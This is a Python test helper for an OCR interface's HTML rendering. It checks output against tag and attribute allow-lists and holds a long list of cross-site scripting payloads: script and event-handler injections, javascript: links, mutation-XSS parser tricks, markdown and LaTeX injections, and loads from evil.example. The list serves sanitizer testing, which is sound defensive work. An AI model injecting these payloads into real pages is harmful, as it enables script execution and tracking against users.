"""What a real parser of HTML makes of rendered text, and payloads that must not get through it."""

from __future__ import annotations

import re
from collections.abc import Iterator
from xml.etree.ElementTree import Element

import html5lib

from ocr_ui.render.formulas import MATHML

HTML = "{http://www.w3.org/1999/xhtml}"
MATH = "{http://www.w3.org/1998/Math/MathML}"

HTML_TAGS = frozenset(
    (
        *("p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "hr", "pre", "div", "em", "strong"),
        *("a", "span", "code", "mark", "bdi", "table", "thead", "tbody", "tfoot", "tr", "td", "th", "caption"),
        *("sup", "sub", "br"),
    )
)
ATTRIBUTES = frozenset(
    (
        *("dir", "class", "title", "href", "rel", "target", "start", "value", "colspan", "rowspan"),
        *("data-code", "data-shown", "data-all", "data-line"),
    )
)
FORBIDDEN = re.compile(
    r"<script|\son\w+\s*=|javascript:|vbscript:|<iframe|<svg|<object|<embed|<base|<meta|<form|<img|<link|<style"
    r"|style\s*=|url\(|src\s*=|data:text/html",
    re.IGNORECASE,
)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>x</text></a></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(//evil.example/x.png)'>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    '<a href="\x01javascript:alert(1)">x</a>',
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<math href='javascript:alert(1)'><mi>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror='alert(1)'>\">",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "</p><script>alert(1)</script><p>",
    "<a name=body><img name=getElementById id=cookie>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example)",
    "[x](file:///etc/passwd)",
    '[x](http://a"onmouseover="alert(1))',
    "[x](http://a 'x\" onmouseover=alert(1) y=\"')",
    "[x](<http://a'><img src=x onerror=alert(1)>>)",
    "[<img src=x onerror=alert(1)>](http://a.example)",
    "![x](http://evil.example/track.png)",
    '!["onerror=alert(1)](x"onerror="alert(1))',
    "![x][r]\n\n[r]: http://evil.example/track.png",
    "[r]: javascript:alert(1)\n\n[r]",
    "<javascript:alert(1)>",
    '<http://a.example/"onclick=alert(1)>',
    "```<img src=x onerror=alert(1)>\nx\n```",
    '```mermaid\nclick A href "javascript:alert(1)"\n<img src=x onerror=alert(1)>\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{alert(1)} <%= alert(1) %>",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\text{</mtext></math><script>alert(1)</script>}$",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$$\\style{background:url(//evil.example/x)}{x}$$",
    '$$\\class{x" onclick="alert(1)}{x}$$',
    '$$\\textcolor{red" onclick="alert(1)}{x}$$',
    "$$\\color{url(//evil.example)}{x}$$",
    "$$\\unicode{x3cscript}$$",
    "$$\\includegraphics{http://evil.example/x.png}$$",
    "$$\\def\\x{<img src=x onerror=alert(1)>}\\x$$",
    "$$\\html{<script>alert(1)</script>}$$",
    '$$\\hspace{1em" onclick="alert(1)}$$',
    "$$\\verb|<script>alert(1)</script>|$$",
    "$$\\mathop{<img src=x onerror=alert(1)>}$$",
    '$$\\begin{array}{c" onclick="x}a\\end{array}$$',
    "\\(\\text{&lt;script&gt;alert(1)&lt;/script&gt;}\\)",
    "<table><tr><td onclick=alert(1) style='background:url(//evil.example)'>x</td></tr></table>",
    "<table background=//evil.example/x><tr><td><img src=x onerror=alert(1)></td></tr></table>",
    "<table><tr><td><script>alert(1)</script></td></tr></table>",
    "<table><script>alert(1)</script><tr><td>x</td></tr></table>",
    "<table><tr><td><math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></table>",
    "<table><tr><td><svg></td><td><style><a id='</style><img src=x onerror=alert(1)>'></td></tr></table>",
    "<table><caption><sup onclick=alert(1)>x</sup></caption></table>",
    "<table><tr><td colspan='2\" onclick=\"alert(1)'>x</td></tr></table>",
    "<table><tr><td>$\\text{<img src=x onerror=alert(1)>}$</td></tr></table>",
    "<table><tr><td>&lt;img src=x onerror=alert(1)&gt;</td></tr></table>",
    "<table><tr><td>a<!--<td><img src=x onerror=alert(1)>--></td></tr></table>",
    "<table title=\"<table>\"><tr><td a='>'><img src=x onerror=alert(1)>",
    "<br onclick=alert(1)><sup onclick=alert(1)>x</sup><sub><img src=x onerror=alert(1)></sub>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '| a |\n|:-:" onclick="alert(1)|\n| b |',
    '1" onclick="alert(1). x',
    "# x {#id onclick=alert(1)}",
    "<x\0y onclick=alert(1)>",
    "\ud800<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</script>",
]


def fragment(html: str) -> Element:
    """The HTML as a browser would build it with innerHTML (the algorithm of the HTML standard, by html5lib)."""
    return html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=True)


def elements(html: str) -> Iterator[Element]:
    yield from (element for element in fragment(html).iter() if element.tag != "DOCUMENT_FRAGMENT")


def visible_text(html: str) -> str:
    return "".join(fragment(html).itertext())


def assert_safe(html: str) -> None:
    """No element, attribute or value beyond the short lists: nothing that runs, loads or styles can be among them."""
    for element in elements(html):
        assert isinstance(element.tag, str), "a comment"
        if element.tag.startswith(MATH):
            tag = element.tag.removeprefix(MATH)
            assert tag in MATHML, html
            for name, value in element.attrib.items():
                assert name == "class" or MATHML[tag][name].fullmatch(value), (name, value)
        else:
            assert element.tag.removeprefix(HTML) in HTML_TAGS, element.tag
            assert set(element.attrib) <= ATTRIBUTES, element.attrib
        for name in element.attrib.get("class", "").split():
            assert name.startswith(("ocr-", "language-mermaid")), name
        if "href" in element.attrib:
            assert re.match(r"https?://", element.attrib["href"], re.IGNORECASE)
            assert (element.attrib["rel"], element.attrib["target"]) == ("noopener noreferrer nofollow", "_blank")
    assert not FORBIDDEN.search(html), FORBIDDEN.search(html)
